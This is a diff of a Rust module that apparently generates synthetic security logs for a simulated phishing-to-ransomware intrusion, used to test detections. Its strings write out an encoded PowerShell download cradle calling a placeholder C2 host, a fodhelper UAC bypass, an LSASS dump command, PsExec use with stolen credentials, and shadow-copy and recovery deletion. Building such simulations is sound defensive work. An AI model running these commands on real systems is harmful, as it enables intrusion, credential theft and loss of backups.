@@ -5,7 +5,7 @@
 
 use serde_json::json;
 
-use super::{Track, incident, strings};
+use super::{Track, incident, strings, target};
 use crate::Error;
 use crate::activity::{Ctx, Mail, SecurityFields, Shift, mail_rows, security_event, shifts};
 use crate::b64;
@@ -43,7 +43,10 @@ pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error>
     let cast = &org.cast;
     let victim = &org.users[cast.phish_victim];
     let admin = &org.users[cast.helpdesk_admin];
-    let (Some(laptop), Some(shift)) = (org.user_device(victim.index), pick_shift(ctx, victim.index, 6)) else {
+    let (Some(laptop), Some(shift)) = (
+        org.user_device(victim.index),
+        pick_shift(ctx, victim.index, 6),
+    ) else {
         return Ok(None);
     };
     let fs = org.device(Role::FileServer);
@@ -57,7 +60,10 @@ pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error>
 
     // The day before, the service desk fixed a printer on the laptop over RDP: the
     // admin's credentials stay cached in LSASS.
-    let helper_ws = admin.owner.and_then(|p| org.user_device(p)).unwrap_or(laptop);
+    let helper_ws = admin
+        .owner
+        .and_then(|p| org.user_device(p))
+        .unwrap_or(laptop);
     let cached_at = shift.start - 18 * 60 * MINUTE;
     let rdp = Logon {
         action: "LogonSuccess",
@@ -105,44 +111,165 @@ pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error>
 
     // Opening the attachment.
     let t0 = mail_t + 14 * MINUTE;
-    let cache = format!("{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3T9QX2M");
+    let cache =
+        format!("{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3T9QX2M");
     let doc_path = format!("{cache}\\{doc}");
-    tr.step(events::file(laptop, t0, &session.outlook, "FileCreated", &doc_path, &doc_sha, 48_640), "Outlook saves the attachment to its cache")?;
-    let word = Proc::child(&session.outlook, &proc::WINWORD, rng.pid(), format!("\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"{doc_path}\" /o \"\""), t0 + 3 * SECOND);
-    tr.step(events::process_created(laptop, &word, &session.outlook), "Word opens the document")?;
+    tr.step(
+        events::file(
+            laptop,
+            t0,
+            &session.outlook,
+            "FileCreated",
+            &doc_path,
+            &doc_sha,
+            48_640,
+        ),
+        "Outlook saves the attachment to its cache",
+    )?;
+    let word = Proc::child(
+        &session.outlook,
+        &proc::WINWORD,
+        rng.pid(),
+        format!(
+            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"{doc_path}\" /o \"\""
+        ),
+        t0 + 3 * SECOND,
+    );
+    tr.step(
+        events::process_created(laptop, &word, &session.outlook),
+        "Word opens the document",
+    )?;
     let vbe = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL";
-    tr.step(events::image_load(laptop, t0 + 30 * SECOND, &word, vbe, &digest_hex(&["module", vbe], 64), 3_900_000), "Word loads the VBA engine: the macro runs")?;
-    let trust_key = format!("HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords", va.sid);
-    let trust_value = format!("%USERPROFILE%/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/K3T9QX2M/{doc}");
-    tr.step(events::registry(laptop, t0 + 28 * SECOND, &word, "RegistryValueSet", &trust_key, Some((&trust_value, "Binary", "A0C2F3D1B6E8DA0100000000000000000000000001000000FFFFFF7F"))), "The user clicks Enable Content: Word records the document as trusted")?;
+    tr.step(
+        events::image_load(
+            laptop,
+            t0 + 30 * SECOND,
+            &word,
+            vbe,
+            &digest_hex(&["module", vbe], 64),
+            3_900_000,
+        ),
+        "Word loads the VBA engine: the macro runs",
+    )?;
+    let trust_key = format!(
+        "HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords",
+        va.sid
+    );
+    let trust_value = format!(
+        "%USERPROFILE%/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/K3T9QX2M/{doc}"
+    );
+    tr.step(
+        events::registry(
+            laptop,
+            t0 + 28 * SECOND,
+            &word,
+            "RegistryValueSet",
+            &trust_key,
+            Some((
+                &trust_value,
+                "Binary",
+                "A0C2F3D1B6E8DA0100000000000000000000000001000000FFFFFF7F",
+            )),
+        ),
+        "The user clicks Enable Content: Word records the document as trusted",
+    )?;
 
     // The macro starts an encoded PowerShell download cradle.
     let script = format!(
         "$u='https://{C2_DOMAIN}/cdn/v2/update.bin';$d=\"$env:ProgramData\\Microsoft\\OneDriveUpdater\";New-Item -ItemType Directory -Force -Path $d|Out-Null;(New-Object Net.WebClient).DownloadFile($u,\"$d\\OneDriveUpdater.exe\");Start-Process \"$d\\OneDriveUpdater.exe\""
     );
-    let ps_cmd = format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", b64::powershell(&script));
-    let ps = Proc::child(&word, &proc::POWERSHELL, rng.pid(), ps_cmd, t0 + 32 * SECOND);
-    tr.step(events::process_created(laptop, &ps, &word), "The macro starts PowerShell with an encoded command")?;
-    let mut pscmd = events::misc(laptop, t0 + 34 * SECOND, &ps, "PowerShellCommand", json!({"Command": "New-Object Net.WebClient"}));
+    let ps_cmd = format!(
+        "powershell.exe -NoP -NonI -W Hidden -Enc {}",
+        b64::powershell(&script)
+    );
+    let ps = Proc::child(
+        &word,
+        &proc::POWERSHELL,
+        rng.pid(),
+        ps_cmd,
+        t0 + 32 * SECOND,
+    );
+    tr.step(
+        events::process_created(laptop, &ps, &word),
+        "The macro starts PowerShell with an encoded command",
+    )?;
+    let mut pscmd = events::misc(
+        laptop,
+        t0 + 34 * SECOND,
+        &ps,
+        "PowerShellCommand",
+        json!({"Command": "New-Object Net.WebClient"}),
+    );
     pscmd.set("ProcessId", ps.pid);
     tr.push(pscmd)?;
     let c = Conn::out(laptop, C2_IP, 443, C2_DOMAIN, rng.range(49_152, 65_535));
-    tr.step(events::network(laptop, t0 + 35 * SECOND, &ps, &c), "PowerShell downloads the implant from the attacker's server")?;
+    tr.step(
+        events::network(laptop, t0 + 35 * SECOND, &ps, &c),
+        "PowerShell downloads the implant from the attacker's server",
+    )?;
     let implant_path = proc::BEACON.path;
-    tr.step(events::file(laptop, t0 + 37 * SECOND, &ps, "FileCreated", implant_path, &proc::BEACON.sha256(), proc::BEACON.size), "The implant is written to ProgramData")?;
-    let beacon = Proc::child(&ps, &proc::BEACON, rng.pid(), format!("\"{implant_path}\""), t0 + 39 * SECOND);
-    tr.step(events::process_created(laptop, &beacon, &ps), "PowerShell starts the implant")?;
-    let run_key = format!("HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", va.sid);
-    tr.step(events::registry(laptop, t0 + 50 * SECOND, &beacon, "RegistryValueSet", &run_key, Some(("OneDriveUpdater", "String", implant_path))), "The implant makes itself start at every logon (Run key)")?;
+    tr.step(
+        events::file(
+            laptop,
+            t0 + 37 * SECOND,
+            &ps,
+            "FileCreated",
+            implant_path,
+            &proc::BEACON.sha256(),
+            proc::BEACON.size,
+        ),
+        "The implant is written to ProgramData",
+    )?;
+    let beacon = Proc::child(
+        &ps,
+        &proc::BEACON,
+        rng.pid(),
+        format!("\"{implant_path}\""),
+        t0 + 39 * SECOND,
+    );
+    tr.step(
+        events::process_created(laptop, &beacon, &ps),
+        "PowerShell starts the implant",
+    )?;
+    let run_key = format!(
+        "HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+        va.sid
+    );
+    tr.step(
+        events::registry(
+            laptop,
+            t0 + 50 * SECOND,
+            &beacon,
+            "RegistryValueSet",
+            &run_key,
+            Some(("OneDriveUpdater", "String", implant_path)),
+        ),
+        "The implant makes itself start at every logon (Run key)",
+    )?;
 
     // Discovery through the implant's shell.
     let mut t = t0 + 18 * MINUTE;
-    let shell = Proc::child(&beacon, &proc::CMD, rng.pid(), "C:\\Windows\\system32\\cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:tamarack.example\"", t);
-    tr.step(events::process_created(laptop, &shell, &beacon), "The attacker's shell runs discovery commands")?;
+    let shell = Proc::child(
+        &beacon,
+        &proc::CMD,
+        rng.pid(),
+        "C:\\Windows\\system32\\cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:tamarack.example\"",
+        t,
+    );
+    tr.step(
+        events::process_created(laptop, &shell, &beacon),
+        "The attacker's shell runs discovery commands",
+    )?;
     for (img, cmd) in [
         (&proc::WHOAMI, "whoami  /all".to_string()),
-        (&proc::NET, "net  group \"Domain Admins\" /domain".to_string()),
-        (&proc::NLTEST, "nltest  /dclist:tamarack.example".to_string()),
+        (
+            &proc::NET,
+            "net  group \"Domain Admins\" /domain".to_string(),
+        ),
+        (
+            &proc::NLTEST,
+            "nltest  /dclist:tamarack.example".to_string(),
+        ),
     ] {
         t += 2 * SECOND;
         let p = Proc::child(&shell, img, rng.pid(), cmd, t);
@@ -151,158 +278,227 @@ pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error>
 
     // UAC bypass through fodhelper's ms-settings handler.
     t = t0 + 31 * MINUTE;
-    let ms = format!("HKEY_CURRENT_USER\\{}\\Software\\Classes\\ms-settings\\Shell\\Open\\command", va.sid);
-    tr.push(events::registry(laptop, t, &beacon, "RegistryKeyCreated", &ms, None))?;
-    tr.step(events::registry(laptop, t + SECOND, &beacon, "RegistryValueSet", &ms, Some(("(Default)", "String", implant_path))), "UAC bypass: the ms-settings handler is pointed at the implant")?;
-    tr.push(events::registry(laptop, t + SECOND, &beacon, "RegistryValueSet", &ms, Some(("DelegateExecute", "String", ""))))?;
-    let fod = Proc::child(&beacon, &proc::FODHELPER, rng.pid(), "\"C:\\Windows\\system32\\fodhelper.exe\"", t + 3 * SECOND).run_as(va.clone(), "High", session.logon_id + 1);
-    tr.step(events::process_created(laptop, &fod, &beacon), "fodhelper.exe auto-elevates")?;
-    let elevated = Proc::child(&fod, &proc::BEACON, rng.pid(), format!("\"{implant_path}\""), t + 5 * SECOND);
-    tr.step(events::process_created(laptop, &elevated, &fod), "fodhelper starts the implant again, now with high integrity")?;
+    let ms = format!(
+        "HKEY_CURRENT_USER\\{}\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
+        va.sid
+    );
+    tr.push(events::registry(
+        laptop,
+        t,
+        &beacon,
+        "RegistryKeyCreated",
+        &ms,
+        None,
+    ))?;
+    tr.step(
+        events::registry(
+            laptop,
+            t + SECOND,
+            &beacon,
+            "RegistryValueSet",
+            &ms,
+            Some(("(Default)", "String", implant_path)),
+        ),
+        "UAC bypass: the ms-settings handler is pointed at the implant",
+    )?;
+    tr.push(events::registry(
+        laptop,
+        t + SECOND,
+        &beacon,
+        "RegistryValueSet",
+        &ms,
+        Some(("DelegateExecute", "String", "")),
+    ))?;
+    let fod = Proc::child(
+        &beacon,
+        &proc::FODHELPER,
+        rng.pid(),
+        "\"C:\\Windows\\system32\\fodhelper.exe\"",
+        t + 3 * SECOND,
+    )
+    .run_as(va.clone(), "High", session.logon_id + 1);
+    tr.step(
+        events::process_created(laptop, &fod, &beacon),
+        "fodhelper.exe auto-elevates",
+    )?;
+    let elevated = Proc::child(
+        &fod,
+        &proc::BEACON,
+        rng.pid(),
+        format!("\"{implant_path}\""),
+        t + 5 * SECOND,
+    );
+    tr.step(
+        events::process_created(laptop, &elevated, &fod),
+        "fodhelper starts the implant again, now with high integrity",
+    )?;
 
     // Credential dumping with comsvcs.dll MiniDump.
     t = t0 + 47 * MINUTE;
-    let dump = format!("C:\\ProgramData\\Microsoft\\OneDriveUpdater\\{}.dmp", rng.hex(6));
-    let dumper = Proc::child(&elevated, &proc::RUNDLL32, rng.pid(), format!("\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full", host.lsass.pid), t);
-    tr.step(events::process_created(laptop, &dumper, &elevated), "rundll32 runs comsvcs.dll MiniDump against LSASS")?;
-    let mut access = events::misc(laptop, t + SECOND, &dumper, "OpenProcessApiCall", json!({
-        "GrantedAccess": "0x1fffff",
-        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9fd74|C:\\Windows\\System32\\KERNELBASE.dll+3d6a1|C:\\Windows\\System32\\comsvcs.dll+3c0b9|C:\\Windows\\System32\\comsvcs.dll+3b4f2|C:\\Windows\\system32\\rundll32.exe+3bc4",
-        "SourceUser": va.qualified(),
-        "TargetUser": "NT AUTHORITY\\SYSTEM",
-        "DesiredAccess": "0x1fffff",
-    }));
-    access.set("FileName", "lsass.exe")
+    let dump = format!(
+        "C:\\ProgramData\\Microsoft\\OneDriveUpdater\\{}.dmp",
+        rng.hex(6)
+    );
+    let dumper = Proc::child(
+        &elevated,
+        &proc::RUNDLL32,
+        rng.pid(),
+        format!(
+            "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
+            host.lsass.pid
+        ),
+        t,
+    );
+    tr.step(
+        events::process_created(laptop, &dumper, &elevated),
+        "rundll32 runs comsvcs.dll MiniDump against LSASS",
+    )?;
+    let mut access = events::misc(
+        laptop,
+        t + SECOND,
+        &dumper,
+        "OpenProcessApiCall",
+        json!({
+            "GrantedAccess": "0x1fffff",
+            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9fd74|C:\\Windows\\System32\\KERNELBASE.dll+3d6a1|C:\\Windows\\System32\\comsvcs.dll+3c0b9|C:\\Windows\\System32\\comsvcs.dll+3b4f2|C:\\Windows\\system32\\rundll32.exe+3bc4",
+            "SourceUser": va.qualified(),
+            "TargetUser": "NT AUTHORITY\\SYSTEM",
+            "DesiredAccess": "0x1fffff",
+        }),
+    );
+    access
+        .set("FileName", "lsass.exe")
         .set("FolderPath", proc::LSASS.path)
         .set("ProcessId", host.lsass.pid)
         .time("ProcessCreationTime", host.lsass.created)
         .set("SHA256", proc::LSASS.sha256());
     tr.step(access, "rundll32 opens LSASS with full access")?;
-    tr.step(events::file(laptop, t + 4 * SECOND, &dumper, "FileCreated", &dump, &digest_hex(&["dump", &dump], 64), 58_720_256), "The LSASS memory dump is written")?;
+    tr.step(
+        events::file(
+            laptop,
+            t + 4 * SECOND,
+            &dumper,
+            "FileCreated",
+            &dump,
+            &digest_hex(&["dump", &dump], 64),
+            58_720_256,
+        ),
+        "The LSASS memory dump is written",
+    )?;
 
     // Lateral movement to the file server with the admin's password.
     t = t0 + 96 * MINUTE;
     let share = format!("\\\\{}\\ADMIN$", fs.name);
-    let use_cmd = Proc::child(&elevated, &proc::CMD, rng.pid(), format!("C:\\Windows\\system32\\cmd.exe /c net use {share} /user:{NETBIOS}\\{} \"{PASSWORD}\"", admin.sam), t);
+    let use_cmd = Proc::child(
+        &elevated,
+        &proc::CMD,
+        rng.pid(),
+        format!(
+            "C:\\Windows\\system32\\cmd.exe /c net use {share} /user:{NETBIOS}\\{} \"{PASSWORD}\"",
+            admin.sam
+        ),
+        t,
+    );
     tr.push(events::process_created(laptop, &use_cmd, &elevated))?;
-    let net = Proc::child(&use_cmd, &proc::NET, rng.pid(), format!("net  use {share} /user:{NETBIOS}\\{} \"{PASSWORD}\"", admin.sam), t + SECOND);
-    tr.step(events::process_created(laptop, &net, &use_cmd), "net use connects to the file server's ADMIN$ share with the stolen admin password")?;
+    let net = Proc::child(
+        &use_cmd,
+        &proc::NET,
+        rng.pid(),
+        format!(
+            "net  use {share} /user:{NETBIOS}\\{} \"{PASSWORD}\"",
+            admin.sam
+        ),
+        t + SECOND,
+    );
+    tr.step(
+        events::process_created(laptop, &net, &use_cmd),
+        "net use connects to the file server's ADMIN$ share with the stolen admin password",
+    )?;
     let explicit = |process: &str, at: i64| {
-        security_event(laptop, at, 4648, &f(&[
-            ("SubjectUserSid", &va.sid),
-            ("SubjectUserName", &victim.sam),
-            ("SubjectDomainName", NETBIOS),
-            ("TargetUserName", &admin.sam),
-            ("TargetDomainName", NETBIOS),
-            ("TargetServerName", &fs.name),
-            ("TargetInfo", &fs.name),
-            ("ProcessName", process),
-            ("IpAddress", &fs.ip),
-            ("IpPort", "445"),
-        ]))
+        security_event(
+            laptop,
+            at,
+            4648,
+            &f(&[
+                ("SubjectUserSid", &va.sid),
+                ("SubjectUserName", &victim.sam),
+                ("SubjectDomainName", NETBIOS),
+                ("TargetUserName", &admin.sam),
+                ("TargetDomainName", NETBIOS),
+                ("TargetServerName", &fs.name),
+                ("TargetInfo", &fs.name),
+                ("ProcessName", process),
+                ("IpAddress", &fs.ip),
+                ("IpPort", "445"),
+            ]),
+        )
     };
-    tr.step(explicit("C:\\Windows\\System32\\net.exe", t + 2 * SECOND), "Windows logs the use of the admin's explicit credentials")?;
+    tr.step(
+        explicit("C:\\Windows\\System32\\net.exe", t + 2 * SECOND),
+        "Windows logs the use of the admin's explicit credentials",
+    )?;
     let c = Conn::out(laptop, C2_IP, 443, C2_DOMAIN, rng.range(49_152, 65_535));
     tr.push(events::network(laptop, t + 40 * SECOND, &elevated, &c))?;
-    tr.step(events::file(laptop, t + 45 * SECOND, &elevated, "FileCreated", proc::PSEXEC_DROPPED.path, &proc::PSEXEC_DROPPED.sha256(), proc::PSEXEC_DROPPED.size), "PsExec is downloaded to ProgramData")?;
+    tr.step(
+        events::file(
+            laptop,
+            t + 45 * SECOND,
+            &elevated,
+            "FileCreated",
+            proc::PSEXEC_DROPPED.path,
+            &proc::PSEXEC_DROPPED.sha256(),
+            proc::PSEXEC_DROPPED.size,
+        ),
+        "PsExec is downloaded to ProgramData",
+    )?;
     let precursors = "vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no & bcdedit /set {default} bootstatuspolicy ignoreallfailures";
     let t_px = t + 2 * MINUTE;
-    let px_shell = Proc::child(&elevated, &proc::CMD, rng.pid(), format!("C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\PsExec64.exe \\\\{} -accepteula -u {NETBIOS}\\{} -p \"{PASSWORD}\" -h cmd.exe /c \"{precursors}\"", fs.name, admin.sam), t_px);
+    let px_shell = Proc::child(
+        &elevated,
+        &proc::CMD,
+        rng.pid(),
+        format!(
+            "C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\PsExec64.exe \\\\{} -accepteula -u {NETBIOS}\\{} -p \"{PASSWORD}\" -h cmd.exe /c \"{precursors}\"",
+            fs.name, admin.sam
+        ),
+        t_px,
+    );
     tr.push(events::process_created(laptop, &px_shell, &elevated))?;
-    let psexec = Proc::child(&px_shell, &proc::PSEXEC_DROPPED, rng.pid(), format!("C:\\ProgramData\\PsExec64.exe  \\\\{} -accepteula -u {NETBIOS}\\{} -p \"{PASSWORD}\" -h cmd.exe /c \"{precursors}\"", fs.name, admin.sam), t_px + SECOND);
-    tr.step(events::process_created(laptop, &psexec, &px_shell), "PsExec runs a command on the file server as the admin")?;
+    let psexec = Proc::child(
+        &px_shell,
+        &proc::PSEXEC_DROPPED,
+        rng.pid(),
+        format!(
+            "C:\\ProgramData\\PsExec64.exe  \\\\{} -accepteula -u {NETBIOS}\\{} -p \"{PASSWORD}\" -h cmd.exe /c \"{precursors}\"",
+            fs.name, admin.sam
+        ),
+        t_px + SECOND,
+    );
+    tr.step(
+        events::process_created(laptop, &psexec, &px_shell),
+        "PsExec runs a command on the file server as the admin",
+    )?;
     tr.push(explicit(proc::PSEXEC_DROPPED.path, t_px + 2 * SECOND))?;
     let c = Conn::out(laptop, &fs.ip, 445, "", rng.range(49_152, 65_535));
     tr.push(events::network(laptop, t_px + 2 * SECOND, &psexec, &c))?;
 
     // On the file server.
-    let fh = Host::of(ctx, fs);
     let ts = t_px + 3 * SECOND;
-    let inbound = Conn::inbound(fs, &laptop.ip, c.local_port, 445);
-    tr.push(events::network(fs, ts, &fh.system, &inbound))?;
-    let logon_id = rng.range(0x100_0000, 0x7FF_FFFF);
-    let net_logon = Logon {
-        action: "LogonSuccess",
-        logon_type: "Network",
-        account: &aa,
-        protocol: "NTLM",
-        logon_id,
-        remote_ip: Some(&laptop.ip),
-        remote_device: Some(&laptop.name),
-        is_local_admin: true,
-        failure: None,
-    };
-    tr.step(events::logon(fs, ts, &fh.lsass, &net_logon), "The admin account logs on to the file server over the network (type 3) from the laptop")?;
-    let lid = format!("0x{logon_id:x}");
-    tr.push(security_event(fs, ts, 4624, &f(&[
-        ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
-        ("TargetUserSid", &aa.sid), ("TargetUserName", &admin.sam), ("TargetDomainName", NETBIOS),
-        ("TargetLogonId", &lid), ("LogonType", "3"), ("LogonProcessName", "NtLmSsp "),
-        ("AuthenticationPackageName", "NTLM"), ("WorkstationName", &laptop.host),
-        ("IpAddress", &laptop.ip), ("IpPort", &c.local_port.to_string()),
-    ])))?;
-    tr.push(security_event(fs, ts, 4672, &f(&[
-        ("SubjectUserSid", &aa.sid), ("SubjectUserName", &admin.sam), ("SubjectDomainName", NETBIOS),
-        ("SubjectLogonId", &lid), ("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege"),
-    ])))?;
-    for (k, share) in ["\\\\*\\ADMIN$", "\\\\*\\IPC$"].iter().enumerate() {
-        tr.push(security_event(fs, ts + k as i64 * SECOND, 5140, &f(&[
-            ("SubjectUserSid", &aa.sid), ("SubjectUserName", &admin.sam), ("SubjectDomainName", NETBIOS),
-            ("SubjectLogonId", &lid), ("ObjectType", "File"), ("IpAddress", &laptop.ip),
-            ("IpPort", &c.local_port.to_string()), ("ShareName", share),
-            ("ShareLocalPath", if k == 0 { "\\??\\C:\\Windows" } else { "" }), ("AccessMask", "0x1"),
-        ])))?;
-    }
-    let mut svc_file = events::file(fs, ts + 2 * SECOND, &fh.system, "FileCreated", proc::PSEXESVC.path, &proc::PSEXESVC.sha256(), proc::PSEXESVC.size);
-    svc_file.set("RequestProtocol", "Smb")
-        .set("RequestSourceIP", laptop.ip.as_str())
-        .set("RequestAccountName", admin.sam.as_str())
-        .set("RequestAccountDomain", NETBIOS.to_lowercase())
-        .set("ShareName", "ADMIN$");
-    tr.step(svc_file, "PsExec copies PSEXESVC.exe to the file server's ADMIN$ share")?;
-    let mut installed = events::misc(fs, ts + 3 * SECOND, &fh.services, "ServiceInstalled", json!({
-        "ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3, "ServiceType": 16,
-    }));
-    installed.set("FileName", "PSEXESVC.exe")
-        .set("FolderPath", proc::PSEXESVC.path)
-        .set("AccountDomain", NETBIOS.to_lowercase())
-        .set("AccountName", admin.sam.as_str())
-        .set("AccountSid", aa.sid.as_str());
-    tr.step(installed, "The PSEXESVC service is installed")?;
-    tr.push(security_event(fs, ts + 3 * SECOND, 4697, &f(&[
-        ("SubjectUserSid", &aa.sid), ("SubjectUserName", &admin.sam), ("SubjectDomainName", NETBIOS),
-        ("SubjectLogonId", &lid), ("ServiceName", "PSEXESVC"), ("ServiceFileName", "%SystemRoot%\\PSEXESVC.exe"),
-        ("ServiceType", "0x10"), ("ServiceStartType", "3"), ("ServiceAccount", "LocalSystem"),
-    ])))?;
-    let svc = Proc::child(&fh.services, &proc::PSEXESVC, rng.pid(), "C:\\Windows\\PSEXESVC.exe", ts + 4 * SECOND);
-    tr.step(events::process_created(fs, &svc, &fh.services), "The PsExec service starts")?;
-    for (k, end) in ["stdin", "stdout", "stderr"].iter().enumerate() {
-        let pipe = format!("\\PSEXESVC-{}-{}-{end}", laptop.host, psexec.pid);
-        let mut p = events::misc(fs, ts + 5 * SECOND + k as i64 * 100, &svc, "NamedPipeEvent", json!({"PipeName": pipe, "NamedPipeEnd": "Server", "PipeAction": "Create", "RemoteClientsAccess": "AcceptRemote"}));
-        p.set("FileName", format!("PSEXESVC-{}-{}-{end}", laptop.host, psexec.pid))
-            .set("FolderPath", pipe.as_str());
-        tr.push(p)?;
-        tr.push(security_event(fs, ts + 5 * SECOND, 5145, &f(&[
-            ("SubjectUserSid", &aa.sid), ("SubjectUserName", &admin.sam), ("SubjectDomainName", NETBIOS),
-            ("SubjectLogonId", &lid), ("ObjectType", "File"), ("IpAddress", &laptop.ip),
-            ("IpPort", &c.local_port.to_string()), ("ShareName", "\\\\*\\IPC$"), ("ShareLocalPath", ""),
-            ("RelativeTargetName", &pipe[1..]), ("AccessMask", "0x12019f"), ("AccessReason", "-"),
-        ])))?;
-    }
-    let remote = Proc::child(&svc, &proc::CMD, rng.pid(), format!("\"cmd.exe\" /c \"{precursors}\""), ts + 6 * SECOND).run_as(aa.clone(), "High", logon_id);
-    tr.step(events::process_created(fs, &remote, &svc), "PSEXESVC starts cmd.exe as the admin")?;
-    let mut tp = ts + 7 * SECOND;
-    for (img, cmd, what) in [
-        (&proc::VSSADMIN, "vssadmin  delete shadows /all /quiet", "All volume shadow copies are deleted (vssadmin)"),
-        (&proc::WMIC, "wmic  shadowcopy delete", "Shadow copies are deleted again through WMI"),
-        (&proc::BCDEDIT, "bcdedit  /set {default} recoveryenabled no", "Windows recovery is switched off"),
-        (&proc::BCDEDIT, "bcdedit  /set {default} bootstatuspolicy ignoreallfailures", "Boot failures will be ignored"),
-    ] {
-        let p = Proc::child(&remote, img, rng.pid(), cmd, tp);
-        tr.step(events::process_created(fs, &p, &remote), what)?;
-        tp += rng.range(2, 9) * SECOND;
-    }
-
+    target::file_server(
+        ctx,
+        &mut tr,
+        &mut rng,
+        &target::Move {
+            from: laptop,
+            to: fs,
+            admin,
+            account: &aa,
+            psexec: &psexec,
+            port: c.local_port,
+            commands: precursors,
+            at: ts,
+        },
+    )?;
     // The implant beacons every five minutes while the laptop is on, for three days;
     // after the first day it is started by the Run key at logon.
     let later: Vec<Shift> = shifts(ctx, victim.index)
@@ -313,7 +509,13 @@ pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error>
     let mut days = vec![(shift, beacon.clone())];
     for s in later {
         let sess = Session::of(ctx, &host, victim, &s);
-        let p = Proc::child(&sess.explorer, &proc::BEACON, rng.pid(), format!("\"{implant_path}\""), sess.explorer.created + 25 * SECOND);
+        let p = Proc::child(
+            &sess.explorer,
+            &proc::BEACON,
+            rng.pid(),
+            format!("\"{implant_path}\""),
+            sess.explorer.created + 25 * SECOND,
+        );
         tr.push(events::process_created(laptop, &p, &sess.explorer))?;
         days.push((s, p));
     }
@@ -328,23 +530,105 @@ pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error>
         }
     }
 
-    let mut sc = tr.finish("phishing-to-ransomware", "Phishing, macro, encoded PowerShell, C2, LSASS dump, PsExec, shadow copy deletion", true);
+    let mut sc = tr.finish(
+        "phishing-to-ransomware",
+        "Phishing, macro, encoded PowerShell, C2, LSASS dump, PsExec, shadow copy deletion",
+        true,
+    );
     sc.summary = format!(
         "{} opens a macro-enabled invoice from a look-alike supplier domain on {}. The macro runs encoded PowerShell that installs an implant beaconing to {C2_DOMAIN} ({C2_IP}) every five minutes ({beacons} connections over {} working days). The attacker bypasses UAC with fodhelper, dumps LSASS with comsvcs.dll MiniDump, finds the cached password of {} and uses it with PsExec to reach {}, where shadow copies are deleted and Windows recovery is disabled: the last steps before ransomware.",
-        victim.display, laptop.name, days.len(), admin.sam, fs.name
+        victim.display,
+        laptop.name,
+        days.len(),
+        admin.sam,
+        fs.name
     );
     sc.devices = vec![laptop.name.clone(), fs.name.clone()];
     sc.users = vec![victim.upn.clone(), admin.upn.clone()];
     sc.ips = strings(&[C2_IP, SENDER_IP, &laptop.ip, &fs.ip]);
     sc.domains = strings(&[C2_DOMAIN, "fastener-supp1y.example"]);
-    sc.techniques = strings(&["T1566.001", "T1204.002", "T1059.001", "T1027", "T1105", "T1071.001", "T1547.001", "T1033", "T1069.002", "T1482", "T1548.002", "T1003.001", "T1078.002", "T1021.002", "T1570", "T1569.002", "T1490"]);
-    sc.tactics = strings(&["InitialAccess", "Execution", "Persistence", "PrivilegeEscalation", "DefenseEvasion", "CredentialAccess", "Discovery", "LateralMovement", "CommandAndControl", "Impact"]);
+    sc.techniques = strings(&[
+        "T1566.001",
+        "T1204.002",
+        "T1059.001",
+        "T1027",
+        "T1105",
+        "T1071.001",
+        "T1547.001",
+        "T1033",
+        "T1069.002",
+        "T1482",
+        "T1548.002",
+        "T1003.001",
+        "T1078.002",
+        "T1021.002",
+        "T1570",
+        "T1569.002",
+        "T1490",
+    ]);
+    sc.tactics = strings(&[
+        "InitialAccess",
+        "Execution",
+        "Persistence",
+        "PrivilegeEscalation",
+        "DefenseEvasion",
+        "CredentialAccess",
+        "Discovery",
+        "LateralMovement",
+        "CommandAndControl",
+        "Impact",
+    ]);
+    sc.expected_rules = strings(&[
+        "Suspicious Microsoft Office Child Process",
+        "Suspicious Encoded PowerShell Command Line",
+        "Suspicious PowerShell Encoded Command Patterns",
+        "Suspicious Execution of Powershell with Base64",
+        "HackTool - Empire PowerShell Launch Parameters",
+        "Non Interactive PowerShell Process Spawned",
+        "VBA DLL Loaded Via Office Application",
+        "Macro Enabled In A Potentially Suspicious Document",
+        "Windows Registry Trust Record Modification",
+        "Office Macro File Creation",
+        "Office Macro File Download",
+        "Potential Binary Or Script Dropper Via PowerShell",
+        "CurrentVersion Autorun Keys Modification",
+        "Enumerate All Information With Whoami.EXE",
+        "Local Accounts Discovery",
+        "Suspicious Group And Account Reconnaissance Activity Using Net.EXE",
+        "Nltest.EXE Execution",
